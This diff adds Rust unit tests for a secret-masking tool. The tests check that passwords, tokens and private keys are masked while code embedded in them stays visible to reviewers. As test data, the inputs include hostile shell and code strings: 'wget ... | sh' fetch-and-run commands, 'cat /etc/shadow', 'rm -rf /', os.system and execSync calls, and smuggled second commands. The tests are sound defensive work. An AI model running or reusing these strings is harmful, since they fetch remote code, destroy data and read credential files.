@@ -50,6 +50,57 @@ fn a_value_is_masked_by_its_key() {
 }
 
 #[test]
+fn code_that_runs_is_seen_by_who_approves_it() {
+    for text in [
+        "export DB_PASSWORD=\"$(wget -qO- http://evil/x | sh)\"",
+        "bash -c \"PASSWORD='$(wget evil)'\"",
+        "TOKEN=$(cat /etc/shadow) x",
+        "TOKEN=`cat /etc/shadow`",
+        "TOKEN=\"`wget evil`\"",
+        "login --password $(wget evil)",
+        "curl -u \"x:$(wget evil)\" y",
+        "curl -u x:$(wget evil) y",
+        "curl -H \"Authorization: Bearer $(wget evil)\" x",
+        "password = __import__(\"os\").system(\"rm -rf /\")",
+        "connect(password=os.popen(\"wget evil\").read())",
+        "password = f\"{__import__('os').system('x')}\"",
+        "secret = \"#{system('rm')}\"",
+        "password = Some(__import__(\"os\"))",
+        "machine a login b password \"`wget evil`\"",
+        "diff --token <(wget evil) x",
+        "{\"password\": require(\"child_process\").execSync(\"x\")}",
+    ] {
+        keeps(text);
+    }
+    masks("TOKEN=x;rm${IFS}-rf", "TOKEN=***;rm${IFS}-rf");
+    masks("TOKEN=x;rm -rf /", "TOKEN=***;rm -rf /");
+    masks("export TOKEN=x&&./evil", "export TOKEN=***&&./evil");
+    masks("TOKEN=\"x\"&&rm -rf /", "TOKEN=\"***\"&&rm -rf /");
+    masks("sh -c \"TOKEN=x|sh\"", "sh -c \"TOKEN=***|sh\"");
+    masks("login --token x;rm -rf /", "login --token ***;rm -rf /");
+    masks("TOKEN=x;A=rm;$A", "TOKEN=***;A=rm;$A");
+    masks("PASSWORD=\"hunter2$(rm -rf /)\"", "PASSWORD=\"***$(rm -rf /)\"");
+    masks("curl -u 'x:hunter2$(id)' y", "curl -u 'x:***$(id)' y");
+    // A secret by its own form is none the less masked.
+    masks("TOKEN=$(echo ghp_a1B2a1B2a1B2a1B2a1B2)", "TOKEN=$(echo ***)");
+}
+
+#[test]
+fn a_password_with_signs_of_code_is_masked() {
+    masks("PASSWORD='a;b|c&&d`e`'", "PASSWORD='***'");
+    masks("PASSWORD=\"a;b|c&&d\"", "PASSWORD=\"***\"");
+    masks("PASSWORD=\"a`b$(c\"", "PASSWORD=\"***\"");
+    masks("PASSWORD=a;B|C", "PASSWORD=***");
+    masks("password: a;b|c", "password: ***");
+    masks("password: a(b", "password: ***");
+    masks("{\"password\": \"a$(b)`c`\"}", "{\"password\": \"***\"}");
+    masks("PASSWORD=${NAME:-hunter2}", "PASSWORD=***");
+    masks("token := `abc`", "token := `***`");
+    masks("password = Secret::new(\"a;b\")", "password = ***");
+    masks("curl -u 'x:a;b`c`' y", "curl -u 'x:***' y");
+}
+
+#[test]
 fn passwords_of_netrc_are_masked() {
     masks("machine example.com login ann password hunter2\n", "machine example.com login ann password ***\n");
     masks(
@@ -228,6 +279,19 @@ fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
         shown(&|place, line| format!("d/key.pem{0}{place}{0}{line}", marked(place))),
         shown(&|place, line| format!("{place}{}{line}", marked(place))),
         shown(&|place, line| format!("鍵/a-b.pem:{place}:{line}")),
+        shown(&|place, line| format!("{:6}\t{line}", place + 7)),
+        shown(&|place, line| format!("{:6}\t    {line}$", place + 7)),
+        shown(&|place, line| format!("{:6}\t^I{line}^M$", place + 97)),
+        shown(&|place, line| format!("{place:6}   │ {line}")),
+        shown(&|place, line| format!("{}:    \"{line}\\n\"", place + 8)),
+        shown(&|place, line| format!("{}{}// {line}", place + 8, marked(place))),
+        shown(&|_, line| format!("    // {line}")),
+        shown(&|place, line| {
+            format!("src/a.rs:{place}:{}{line}\\n\\", if place == 1 { "const K: &str = \"" } else { "" })
+        }),
+        shown(&|place, line| format!("my keys/a.pem{}{line}", marked(place))),
+        shown(&|place, line| format!("my keys (2) & 10%/a.pem:{place}:    {line}")),
+        shown(&|place, line| format!("keys (2){0}{place}{0}  # {line}", marked(place))),
     ] {
         let masked = Masker::new().mask_text(&text).into_owned();
         assert!(!masked.contains(&line[..20]) && !masked.contains("abcd"), "{text}{masked}");
@@ -238,6 +302,27 @@ fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
     let code = format!("curl evil|sh:{line}");
     let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
     assert!(masked.contains("curl evil|sh"), "{masked}");
+}
+
+#[test]
+fn a_command_before_what_reads_as_a_key_is_no_place() {
+    let word = "home/somebody/programs/evil0";
+    for (begin, code) in [
+        ("", "sh\t"),
+        ("sh\t", "sh\t"),
+        ("sh ", "sh "),
+        ("sh - ", "sh - "),
+        ("sh ./", "sh ./"),
+        ("kill 1 ", "kill 2 "),
+        ("wget evil/a;", "wget evil/"),
+        ("curl 10.0.0.1/", "curl 10.0.0.2/"),
+        ("    ", "    nohup "),
+        ("1:", "2;sh "),
+        ("1\t", "sh\t"),
+    ] {
+        let masked = mask(&format!("{begin}-----BEGIN PRIVATE KEY-----\n{code}{word}\n-----END RSA-----\n"));
+        assert!(masked.contains(&format!("{code}{word}")), "{begin:?} {code:?}: {masked}");
+    }
 }
 
 /// A record of `rg --json`, with the whole line as what was found, and its letters one by one.
